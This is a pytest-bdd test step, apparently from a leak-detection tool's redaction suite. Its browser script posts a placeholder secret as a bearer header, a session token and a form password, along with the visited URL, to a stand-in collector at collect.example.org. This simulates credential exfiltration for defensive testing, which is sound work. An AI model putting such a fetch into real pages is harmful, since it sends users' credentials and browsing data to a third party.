"""Test-only suite: a page sends credentials along with a leak (run by test_redaction.py)."""

import os

from pytest_bdd import scenarios, when

scenarios("redaction.feature")
SECRET = os.environ.get("TELLTALE_TEST_SECRET", "s3cr3t-T0KEN-for-redaction-test")


@when("the page posts credentials and the visited URL to a collector")
def post_credentials(browser, capture_window, canaries):
    post(browser, canaries.url)


def post(browser, url: str) -> None:
    """Authorization header, a session token in the query and a form password, with the URL (also
    in a field named like a credential: a canary there is evidence, and redaction keeps it)."""
    browser.driver.execute_async_script(
        "const done = arguments[arguments.length - 1];"
        "fetch('https://collect.example.org/login?session_token=' + arguments[0], {method: 'POST',"
        " headers: {'Authorization': 'Bearer ' + arguments[0],"
        "           'Content-Type': 'application/x-www-form-urlencoded'},"
        " body: 'user=alice&password=' + arguments[0] + '&u=' + encodeURIComponent(arguments[1])"
        "       + '&access_token=' + encodeURIComponent(arguments[1])})"
        ".then(() => done(true), (e) => done(String(e)));", SECRET, url)
